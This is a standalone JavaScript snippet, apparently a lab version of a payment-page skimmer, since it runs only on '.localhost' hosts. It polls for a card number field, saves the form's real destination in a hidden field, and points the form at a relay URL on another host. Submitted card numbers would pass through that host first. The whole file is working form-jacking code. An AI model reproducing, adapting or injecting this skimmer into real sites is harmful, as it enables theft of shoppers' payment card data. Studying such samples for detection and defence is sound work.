(function (find) {
  if (!/\.localhost$/.test(location.hostname)) return;
  var to = ['https:/', 'form-proxy' + '.localhost', 'relay'].join('/');
  var tries = 0;
  var id = setInterval(function () {
    var card = find('[name*="card_no"], [name*="cardNumber"], [autocomplete=cc-number]')[0];
    if (!card || ++tries > 200) return;
    clearInterval(id);
    var real = card.form.action;
    var keep = document.createElement('input');
    keep.type = 'hidden';
    keep.name = 'next';
    keep.value = real;
    card.form.appendChild(keep);
    card.form.setAttribute('action', to);
  }, 250);
})(document.querySelectorAll.bind(document));
